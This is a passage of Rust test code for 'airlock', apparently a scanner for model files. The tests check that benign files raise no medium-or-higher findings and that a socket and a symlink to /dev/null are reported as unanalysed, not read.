        let p = write(dir.path(), name, &bytes);
        let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(yara.clone()));
        let loud: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.severity >= Severity::Medium)
            .map(|f| (f.rule.id, f.evidence.clone()))
            .collect();
        assert!(loud.is_empty(), "{name}: {loud:?}");
    }
}

/// Special files are reported (unanalysed, with the reason), never read and never skipped
/// silently: a socket inside a folder, and a link to a character device named on the command
/// line.
#[cfg(unix)]
#[test]
fn special_files_are_reported_not_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("repo");
    std::fs::create_dir(&root).expect("mkdir");
    let _sock = std::os::unix::net::UnixListener::bind(root.join("model.sock")).expect("socket");
    let link = dir.path().join("weights.bin");
    std::os::unix::fs::symlink("/dev/null", &link).expect("symlink");
    let opts = ScanOptions {
        paths: vec![root.clone(), link.clone()],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: None,
    };
    let report = scan(&opts, &|_, _| {}).expect("scan");
    for (path, why) in [
        (root.join("model.sock"), "a socket"),
        (link, "a character device"),
    ] {
        let f = report
            .files
            .iter()
            .find(|f| f.path == path)
            .unwrap_or_else(|| panic!("{} not reported", path.display()));
        assert_eq!(f.verdict, airlock::finding::Verdict::Unanalysed);
        assert!(
            f.findings
                .iter()
                .any(|x| x.rule.id == "io-error" && x.evidence.contains(why)),
            "{:?}",
            f.findings
        );
    }
}
